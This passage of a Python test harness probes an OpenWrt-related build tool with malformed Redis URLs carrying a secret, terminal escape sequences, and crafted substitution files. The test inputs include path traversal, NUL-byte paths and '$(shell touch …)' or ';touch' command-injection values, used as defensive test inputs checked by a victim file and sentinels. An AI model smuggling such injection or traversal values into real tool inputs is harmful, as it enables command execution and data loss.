        f"redis://:{s}@127.0.0.1:9/0?ssl_cert_reqs=bogus",
        f"redis://:{s}@127.0.0.1:99999/0",
        f"redis://:{s}@127.0.0.1:9/zero",
        f"redis://:{s}@127.0.0.1:9/0#bad name",
        f"redis://:{s}%40x@127.0.0.1:9/0",
        f"unix://:{s}@/tmp/x.sock",
        f"http://user:{s}@127.0.0.1:9/",
        f"redis://:{s}@127.0.0.1:9/0?db=x",
        f"redis://u:{s}@127.0.0.1:9/0?password={s}&socket_timeout=abc",
        f"redis://:{s}@127.0.0.1:9/0?health_check_interval=1e999",
        f"redis://:{s}@:9/0",
        f"redis://:{s}@127.0.0.1:9/0#x\x1b[2J",
        f"  redis://:{s}@127.0.0.1:9/0",
        f"redis://:{s}\n@127.0.0.1:9/0",
        f"redis://:{s}@127.0.0.1:-1/0",
        f"redis://:{s}@127.0.0.1:9/0?decode_responses=maybe",
    ]
    tasks = [
        ["worker", "--burst"],
        ["build", "--no-report", "-f", "mbedtls", "-d", "tl-wr902ac"],
        ["measure-memory", "--host", "192.0.2.1"],
    ]
    out = [
        Probe([*tasks[i % len(tasks)], "--queue", u], secrets=(s,), check=fails)
        for i, u in enumerate(urls)
    ]
    out += [
        Probe(
            ["worker", "--burst", "--queue", "env"],
            secrets=(s,),
            check=fails,
            env={"OPENWRT_WOLF_QUEUE": u},
        )
        for u in urls[:6]
    ]
    big = ["99999999999999999999", str(10**400), "1e9", "-5", "nan", "0x10"]
    out += [
        Probe(
            ["worker", "--burst", "--queue", f"redis://:{s}@127.0.0.1:9/0", "--heartbeat", b],
            secrets=(s,),
            check=fails,
        )
        for b in big
    ]
    mirrors = [f"http://user:{s}@127.0.0.1:9/", f"https://{s}@127.0.0.1:9/x", f"http://u:{s}@[::1/"]
    for m in mirrors:
        out.append(
            Probe(
                ["build", "--no-report", "-f", "mbedtls", "-d", "tl-wr902ac", "--mirror", m],
                secrets=(s,),
                check=fails,
            )
        )
    if redis_url:  # a reachable queue: the worker prints where its artifacts go
        for m in mirrors[:2]:
            out.append(
                Probe(
                    ["worker", "--burst", "--queue", redis_url, "--artifacts", m, "--mirror", m],
                    secrets=(s,),
                )
            )
        for name in ("x\x1b]0;owned\x07", "[/bold]", "x\n\x1b[2J"):
            out.append(Probe(["worker", "--burst", "--queue", redis_url, "--name", name]))
    return out


# --- options that must be refused before any work ------------------------------------


def refused_family() -> list[Probe]:
    out = []
    for f, d in (
        (",", "tl-wr902ac"),
        (" , ", "tl-wr902ac"),
        ("mbedtls", ","),
        (",,", ",,"),
        ("mbedtls,", ","),
        (" ", "tl-wr902ac"),
    ):
        out.append(Probe(["build", "--no-report", "-f", f, "-d", d], check=fails))
    for e in ("bogus", "sp-p256,bogus", ",", "$(shell x)", "SP-P256", "all,x"):
        out.append(
            Probe(
                [
                    "footprint",
                    "--library",
                    "wolfssl",
                    "--config",
                    "minimal",
                    "--ecc",
                    e,
                    "--rebuild",
                ],
                check=fails,
            )
        )
    return out


def unreadable_ok() -> bool:
    """Whether NO_DAC works here (setpriv present; root or not)."""
    try:
        return subprocess.run([*NO_DAC, "true"], capture_output=True, timeout=10).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


def chmod_back(w: Path) -> None:
    """Give the unreadable files back their mode, so the temporary directory can go."""
    for p in w.rglob("*"):
        try:
            if not p.is_symlink() and stat.S_IMODE(p.lstat().st_mode) == 0:
                p.chmod(0o700)
        except OSError:
            continue


def _mini_tree(w: Path, name: str, subs: str | None = None, special_kind: str = "") -> Path:
    """What `sources --tree` checks a tree by (Makefile, include/target.mk,
    config/Config-build.in) and, when given, its wolf-substitutions.json."""
    t = w / "trees" / name
    for rel in ("Makefile", "include/target.mk", "config/Config-build.in"):
        (t / rel).parent.mkdir(parents=True, exist_ok=True)
        (t / rel).write_text("")
    f = t / "wolf-substitutions.json"
    if subs is not None:
        f.write_text(subs)
    elif special_kind:
        special(f, special_kind)
    return t


def _subs(edits: list[dict[str, str]], env: dict[str, str] | None = None) -> str:
    entry = {"file": "x-1.0.tar.gz", "expected": "0" * 64, "dirs": ["tools/x"],
             "class": "substitute", "origin": "debian:x", "placed": "x-1.0.tar.gz",
             "sha256": "0" * 64, "version": "1.0", "note": "", "edits": edits}  # fmt: skip
    return json.dumps({"schema": 1, "tree": "/t", "created": "2026-12-01", "allow": [],
                       "files": [entry], "env": env or {}})  # fmt: skip


def sources_tree_family(w: Path) -> list[Probe]:
    """`sources --tree` (issue 22's dl/ filling): the tree, --sources and --config as special
    files, a crafted wolf-substitutions.json read by --redo (paths out of the tree, make code in
    its env, NaN, 20 GB, a FIFO, /dev/zero), make code in --packages. Nothing outside the tree
    may change: a victim file beside it is the oracle."""
    victim = w / "trees" / "victim.txt"
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_text("keep me\n")

    def victim_intact() -> Finding | None:
        if not victim.is_file() or victim.read_text() != "keep me\n":
            return "data loss", f"{victim} changed or removed"
        return None

    def outside_intact() -> Finding | None:
        beside = victim.parent / "Makefile"  # what a folder made a link would reach
        if beside.exists() and beside.read_text() != "keep me\n":
            return "data loss", f"{beside} overwritten"
        return victim_intact()

    ok = _mini_tree(w, "plain")
    out = [Probe(["sources", "--tree", str(w / x)]) for x in ("fifo", "big.bin", "empty", "nope")]
    out.append(Probe(["sources", "--tree", "/dev/zero"]))
    out.append(Probe(["sources", "--tree", str(w / "dir")]))  # a directory, not a tree
    out += [Probe(["sources", "--tree", str(ok), "--sources", str(w / x), "--no-debian"])
            for x in ("fifo", "big.bin")]  # fmt: skip
    out += [Probe(["sources", "--tree", str(ok), "--config", x, "--no-debian"])
            for x in (str(w / "fifo"), "/dev/zero", str(w / "dir"))]  # fmt: skip
    crafted = {
        "escape": _subs([{"path": "../victim.txt", "what": "replace", "old": "a", "new": "b"}]),
        "absolute": _subs([{"path": str(victim), "what": "replace", "old": "a", "new": "b"}]),
        "nul": _subs([{"path": "Makefile\0x", "what": "replace", "old": "a", "new": "b"}]),
        "make-env": _subs([], {"CC": f"$(shell touch {w / 'sentinels' / 'subs-env'})"}),
        "nan": '{"schema": 1, "files": NaN}',
        "list": "[1, 2]",
        "deep": "[" * 100_000,
    }
    for name, text in crafted.items():
        t = _mini_tree(w, f"subs-{name}", subs=text)
        out.append(Probe(["sources", "--tree", str(t), "--redo", "x-1.0.tar.gz", "--no-debian"],
                         sentinel=w / "sentinels" / "subs-env", after=victim_intact))  # fmt: skip
    for kind in ("fifo", "sparse 20 GB", "symlink to /dev/zero"):
        t = _mini_tree(w, "subs-" + kind.replace(" ", "-").replace("/", ""), special_kind=kind)
        out.append(Probe(["sources", "--tree", str(t), "--redo", "x-1.0.tar.gz", "--no-debian"],
                         after=victim_intact))  # fmt: skip
    # an edit's kept original put back (--revert, and every run's put-back of unlisted edits)
    # where the tree's file, or a folder on its way, was made a link out of the tree
    edit = [{"path": "tools/x/Makefile", "what": "replace", "old": "a", "new": "b"}]
    for how in ("file-link", "dir-link"):
        t = _mini_tree(w, f"put-back-{how}", subs=_subs(edit))
        kept = t / ".wolf-sources" / "orig" / "tools" / "x" / "Makefile"
        kept.parent.mkdir(parents=True, exist_ok=True)
        kept.write_text("OpenWrt's Makefile\n")
        if how == "file-link":
            (t / "tools" / "x").mkdir(parents=True, exist_ok=True)
            (t / "tools" / "x" / "Makefile").symlink_to(victim)
        else:
            (t / "tools").mkdir(parents=True, exist_ok=True)
            (t / "tools" / "x").symlink_to(victim.parent)
            (victim.parent / "Makefile").write_text("keep me\n")
        out.append(Probe(["sources", "--tree", str(t), "--revert"], after=outside_intact))
    for i, v in enumerate(["$(shell touch {s})", "@g$(shell touch {s})", "luci;touch {s}"]):
        s = w / "sentinels" / f"src-pk-{i}"
        argv = ["sources", "--tree", str(ok), "--device", "malta-be", "--flavour", "wolfssl"]
        out.append(Probe([*argv, "--packages", v.format(s=s), "--no-debian"], sentinel=s))
    return out
